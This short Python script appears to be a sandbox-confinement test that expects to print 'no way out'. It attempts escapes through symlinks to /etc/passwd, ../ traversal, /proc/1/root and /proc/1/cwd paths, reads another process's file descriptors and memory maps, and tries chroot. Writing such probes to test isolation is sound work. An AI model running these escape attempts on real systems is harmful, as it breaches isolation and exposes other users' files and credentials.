# leaves the scratch folder by links and by way of the driver
# prints: no way out
# bound: files and processes of others
import os
input()
path = input()
out = []
for number, target in enumerate([path, "/etc/passwd", "../../../../.." + path, "/proc/1/root" + path, "/proc/1/cwd/../.." + path, "/proc/self/root/.." + path]):
    os.symlink(target, f"link{number}")
    for name in (f"link{number}", target):
        try:
            out.append(open(name).read())
        except OSError:
            pass
for name in ("/proc/1/fd", "/proc/1/map_files"):
    try:
        for entry in os.listdir(name):
            out.append(open(f"{name}/{entry}").read(1))
    except OSError:
        pass
try:
    os.chroot("link0")
    out.append("chroot")
except OSError:
    pass
print(out or "no way out")
